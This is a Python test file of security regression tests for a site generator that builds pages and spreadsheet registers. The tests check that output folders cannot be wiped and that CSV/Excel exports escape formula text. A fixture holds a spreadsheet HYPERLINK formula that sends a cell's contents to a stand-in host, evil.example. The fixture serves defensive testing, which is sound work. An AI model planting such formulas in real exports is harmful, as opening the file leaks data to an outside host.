"""Security regressions found by probing (issue: reliability, section 4). Every input from a unit
or from a pull request is untrusted; no command may delete or write what is not its own."""

from __future__ import annotations

from pathlib import Path

import pytest

from .conftest import FIXTURES, copy_project, run_cli


@pytest.mark.parametrize(
    "target", [".", "..", "units", "content", "cycles", "archive", "theme", ".git/x"]
)
def test_generate_refuses_to_empty_a_source_folder(tmp_path: Path, target: str) -> None:
    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    (project / ".git").mkdir()
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    code, _ = run_cli("generate", "--project", str(project), "--out", str(project / target))
    assert code == 2
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before


def test_generate_refuses_a_folder_it_did_not_make_but_rewrites_its_own(tmp_path: Path) -> None:
    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    foreign = tmp_path / "notes"
    foreign.mkdir()
    (foreign / "keep.txt").write_text("重要", encoding="utf-8")
    assert run_cli("generate", "--project", str(project), "--out", str(foreign))[0] == 2
    assert (foreign / "keep.txt").is_file()
    own = tmp_path / "docs"
    assert run_cli("generate", "--project", str(project), "--out", str(own))[0] == 0
    assert run_cli("generate", "--project", str(project), "--out", str(own))[0] == 0
    assert (own / "units/mini-window/index.md").is_file()


FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


def _formula_unit(tmp_path: Path) -> Path:
    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    unit = project / "units/mini-window/unit.yml"
    text = unit.read_text(encoding="utf-8")
    text = text.replace("name: 测试窗口", "name: '" + FORMULA_NAME.replace("'", "''") + "'")
    unit.write_text(text.replace("address: 东镇 1 号", "address: =1+1"), encoding="utf-8")
    return project


def test_open_data_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    import csv

    from jinglao.pipeline import build_pages

    result = build_pages(_formula_unit(tmp_path))
    assert result.ok, result.problems
    rows = list(csv.reader(result.pages["data/units.csv"].lstrip("\ufeff").splitlines()))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["name"] == "'" + FORMULA_NAME
    assert record["address"] == "'=1+1"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_excel_export_writes_text_cells_not_formulas(tmp_path: Path) -> None:
    import zipfile

    from openpyxl import load_workbook

    project = _formula_unit(tmp_path)
    book_path = tmp_path / "register.xlsx"
    assert run_cli("export", str(book_path), "--project", str(project))[0] == 0
    with zipfile.ZipFile(book_path) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml
    cells = [c for row in load_workbook(book_path)["单位名录"].iter_rows() for c in row]
    name = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert name.data_type == "s" and name.value == "'" + FORMULA_NAME


def test_excel_import_refuses_formula_text(tmp_path: Path) -> None:
    from openpyxl import Workbook

    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["单位名称", "行业类别", "地址"])
    sheet.append(["安全的单位", "涉老部门", "=1+1"])
    sheet["C2"].data_type = "s"  # text that looks like a formula, as a pasted cell would be
    sheet.append(["@SUM(A1)", "涉老部门", "东镇 2 号"])
    book.save(tmp_path / "in.xlsx")
    code, output = run_cli("import", str(tmp_path / "in.xlsx"), "--project", str(project))
    assert "第 2 行：「地址」以「=」开头" in output
    assert "第 3 行：「单位名称」以「@」开头" in output
    assert not any(
        "=" in p.read_text(encoding="utf-8")
        for p in (project / "units").rglob("*.yml")
        if "1+1" in p.read_text(encoding="utf-8")
    )
    assert code == 1
